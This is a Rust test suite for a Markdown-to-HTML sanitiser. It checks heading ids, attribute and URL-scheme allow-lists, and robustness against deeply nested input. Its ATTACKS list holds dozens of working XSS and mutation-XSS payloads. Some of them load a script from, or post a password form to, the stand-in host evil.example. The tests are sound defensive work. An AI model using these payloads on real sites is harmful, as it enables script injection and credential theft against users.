use super::*;

#[test]
fn markdown_becomes_html() {
    let markdown = "# What it costs\n\nSee [here](https://example.org/a?b=c&d \"More\"), `code` ~~not~~.\n\n\
                    - [x] done\n- [ ] open\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```rust\nlet a = \"<b>\";\n```\n\n\
                    ![A box](/box.png)\n\nPress <kbd>Enter</kbd>.";
    let expected = "<h1 id=\"article-what-it-costs\">What it costs</h1>\n\
        <p>See <a href=\"https://example.org/a?b=c&amp;d\" title=\"More\" rel=\"nofollow noopener noreferrer\">here</a>, \
        <code>code</code> <del>not</del>.</p>\n\
        <ul>\n<li>☑ done</li>\n<li>☐ open</li>\n</ul>\n\
        <table><thead><tr><th>a</th><th>b</th></tr></thead><tbody>\n<tr><td>1</td><td>2</td></tr>\n</tbody></table>\n\
        <pre><code class=\"language-rust\">let a = \"&lt;b&gt;\";\n</code></pre>\n\
        <p><img src=\"/box.png\" alt=\"A box\" loading=\"lazy\" referrerpolicy=\"no-referrer\"></p>\n\
        <p>Press <kbd>Enter</kbd>.</p>\n";
    let tags = |html: &str| check(html).unwrap();
    assert_eq!(tags(&html(markdown)), tags(expected));
}

#[test]
fn headings_have_ids_of_their_own() {
    let ids = |markdown: &str| -> Vec<String> {
        let html = html(markdown);
        let parts = html.split("id=\"").skip(1);
        parts.map(|part| part.split('"').next().unwrap().to_owned()).collect()
    };
    assert_eq!(ids("# One\n## One\n### *One* `two`\n# ---!\n"), ["article-one", "article-one-2", "article-one-two"]);
    assert_eq!(ids("# Größe\n# 配送"), ["article-groesse", "article-配送"]);
    assert_eq!(ids(&format!("# {}", "a ".repeat(500))).len(), 1);
    // What authors write themselves stays apart from what pages have.
    assert_eq!(ids("<h2 id=\"location\">x</h2>\n\n<h2 id='a\" onclick=\"x'>y</h2>"), ["article-location"]);
    assert_eq!(ids("<p id=\"x\">y</p>"), [""; 0]);
}

/// Reads what the cleaner writes, and nothing else: every tag and attribute that is left must be one of ours.
fn check(html: &str) -> Result<Vec<String>, String> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        found.push(rest[..at].to_owned());
        let end = end_of_tag(&rest[at..]).ok_or_else(|| format!("a tag without an end: {}", &rest[at..]))?;
        let tag = &rest[at + 1..at + end];
        rest = &rest[at + end + 1..];
        let closing = tag.strip_prefix('/');
        let (name, attributes) = match closing {
            Some(name) => (name, ""),
            None => tag.split_once(' ').unwrap_or((tag, "")),
        };
        if !TAGS.contains(&name) {
            return Err(format!("<{name}>"));
        }
        let mut attributes: Vec<String> = attributes_of(attributes)?
            .into_iter()
            .map(|(attribute, value)| allowed(name, &attribute, &value).map(|()| format!("{attribute}={value}")))
            .collect::<Result<_, _>>()?;
        attributes.sort();
        found.push(format!("<{}{name} {}>", if closing.is_some() { "/" } else { "" }, attributes.join(" ")));
    }
    found.push(rest.to_owned());
    Ok(found)
}

fn end_of_tag(text: &str) -> Option<usize> {
    let mut quoted = false;
    text.bytes().position(|byte| {
        quoted ^= byte == b'"';
        byte == b'>' && !quoted
    })
}

fn attributes_of(mut text: &str) -> Result<Vec<(String, String)>, String> {
    let mut found = Vec::new();
    while !text.is_empty() {
        let (name, rest) = text.split_once("=\"").ok_or_else(|| format!("an attribute without a value: {text}"))?;
        let (value, rest) = rest.split_once('"').ok_or_else(|| format!("a value without an end: {text}"))?;
        found.push((name.to_owned(), value.to_owned()));
        text = rest.trim_start();
    }
    Ok(found)
}

fn allowed(tag: &str, attribute: &str, value: &str) -> Result<(), String> {
    let url = || {
        // As the URL standard has it: a scheme is letters, digits and some signs, up to the first colon.
        let of_scheme = |c: char| c.is_ascii_alphanumeric() || "+-.".contains(c);
        let scheme = value.split_once(':').map(|(scheme, _)| scheme).filter(|scheme| scheme.chars().all(of_scheme));
        scheme.is_none_or(|scheme| ["http", "https", "mailto"].contains(&scheme.to_ascii_lowercase().as_str()))
    };
    let right = match (tag, attribute) {
        (_, "title" | "lang" | "dir")
        | ("a", "hreflang")
        | ("ol", "start")
        | ("details", "open")
        | ("img", "alt" | "width" | "height")
        | ("td" | "th", "colspan" | "rowspan") => true,
        ("a", "href") | ("img", "src") => url() && is_address(value),
        ("a", "rel") => value == "nofollow noopener noreferrer",
        ("img", "loading") => value == "lazy",
        ("img", "referrerpolicy") => value == "no-referrer",
        ("code", "class") => is_language(value),
        ("h1" | "h2" | "h3" | "h4" | "h5" | "h6", "id") => value.strip_prefix(ID).is_some_and(is_id),
        _ => false,
    };
    if right { Ok(()) } else { Err(format!("<{tag} {attribute}=\"{value}\">")) }
}

/// What has run elsewhere, and what tries to look different to two parsers.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=`javascript:alert(1)`>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><!--</style><img src=x onerror=alert(1)>--></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><foreignObject><p title=\"</foreignObject><img src=x onerror=alert(1)>\">",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=1 y=1>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror='alert(1)'>\"></style></h1>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<style><a title=\"</style><img src=x onerror=alert(1)>\">",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<textarea><a title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<select><iframe></select><img src=x onerror=alert(1)></iframe></select>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jAvAsCrIpT:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\" &#14;javascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"feed:javascript:alert(1)\">x</a>",
    "<a href=\"x\" target=_top rel=opener ping=//evil.example style=\"position:fixed\" class=overlay>x</a>",
    "<p style=\"position:fixed;inset:0\">x</p>",
    "<div onmouseover=alert(1)>x</div>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<x onclick=alert(1)>x</x>",
    "<code class=\"language-x onclick=alert(1)\">x</code>",
    "<h1 id=\"x\" onclick=alert(1) name=location>x</h1>",
    "<table background=\"javascript:alert(1)\"><tr><td background=\"javascript:alert(1)\">x</table>",
    "<a href='http://x\" onclick=\"alert(1)'>x</a>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x \"onclick=alert(1)\")",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x\" onerror=\"alert(1)](x)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "```\"><script>alert(1)</script>\nx\n```",
    "```x\" onmouseover=\"alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)> {#x onclick=alert(1)}",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<p>\n\n<script>\n\nalert(1)\n\n</script>",
    "\u{0}<script\u{0}>alert(1)</script>",
    "<\u{0}script>alert(1)</script>",
];

#[test]
fn nothing_runs() {
    for attack in ATTACKS {
        let cleaned = html(attack);
        if let Err(why) = check(&cleaned) {
            panic!("{attack}\nleaves {why} in\n{cleaned}");
        }
    }
}

/// A browser that reads the answer must see what the cleaner saw: reading it again changes nothing.
#[test]
fn what_is_clean_stays_as_it_is() {
    for attack in ATTACKS {
        let once = html(attack);
        assert_eq!(CLEANER_AGAIN.clean(&once).to_string(), once, "{attack}");
    }
}

/// As the cleaner, but it leaves the ids that are there.
static CLEANER_AGAIN: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut cleaner = Builder::empty();
    let attributes = TAGS.map(|tag| {
        let of = |tag: &str| match tag {
            "a" => vec!["href", "hreflang"],
            "img" => vec!["src", "alt", "width", "height", "loading", "referrerpolicy"],
            "ol" => vec!["start"],
            "td" | "th" => vec!["colspan", "rowspan"],
            "code" => vec!["class"],
            "details" => vec!["open"],
            "h1" | "h2" | "h3" | "h4" | "h5" | "h6" => vec!["id"],
            _ => vec![],
        };
        (tag, of(tag).into_iter().collect::<HashSet<_>>())
    });
    cleaner
        .tags(HashSet::from(TAGS))
        .clean_content_tags(HashSet::from(GONE))
        .tag_attributes(HashMap::from(attributes))
        .generic_attributes(HashSet::from(["title", "lang", "dir"]))
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .link_rel(Some("nofollow noopener noreferrer"));
    cleaner
});

/// Two attacks after, before and in each other, in whatever order a simple generator puts them.
#[test]
fn nothing_runs_when_attacks_are_put_together() {
    let mut state = 4_711_u64;
    let mut draw = |most: usize| {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        usize::try_from(state >> 33).unwrap() % most
    };
    for _ in 0..2_000 {
        let (one, other) = (ATTACKS[draw(ATTACKS.len())], ATTACKS[draw(ATTACKS.len())]);
        let mut at = draw(one.len() + 1);
        while !one.is_char_boundary(at) {
            at -= 1;
        }
        let mixed = format!("{}{other}{}", &one[..at], &one[at..]);
        let cleaned = html(&mixed);
        if let Err(why) = check(&cleaned) {
            panic!("{mixed}\nleaves {why} in\n{cleaned}");
        }
        // Headings in each other are put apart by whoever reads them; what is in them stays what it is.
        let again = CLEANER_AGAIN.clean(&cleaned).to_string();
        check(&again).unwrap_or_else(|why| panic!("{mixed}\nbecomes {why} in\n{again}"));
    }
}

#[test]
fn deep_and_long_text_is_no_trouble() {
    for text in [
        "> ".repeat(50_000),
        "- ".repeat(50_000),
        "<b>".repeat(33_000),
        "<b><p>".repeat(2_000),
        "<a href=x>".repeat(10_000),
        "<table>".repeat(4_000),
        "<details>".repeat(1_500),
        "[".repeat(100_000),
        "*a ".repeat(33_000),
        "# a\n".repeat(5_000),
        "<".repeat(20_000),
        "&".repeat(5_000),
        "|a".repeat(50_000),
    ] {
        check(&html(&text)).unwrap();
    }
    let levels = |html: &str| html.matches("<blockquote>").count();
    assert_eq!((levels(&html(&"> ".repeat(20))), levels(&html(&format!("{}x", "> ".repeat(200))))), (20, DEEPEST));
    assert!(html(&format!("{}x", "<kbd>".repeat(MOST_TAGS))).contains("<kbd>"));
    assert_eq!(html(&format!("{}x", "<kbd>".repeat(MOST_TAGS + 1))), "<p>x</p>\n");
}
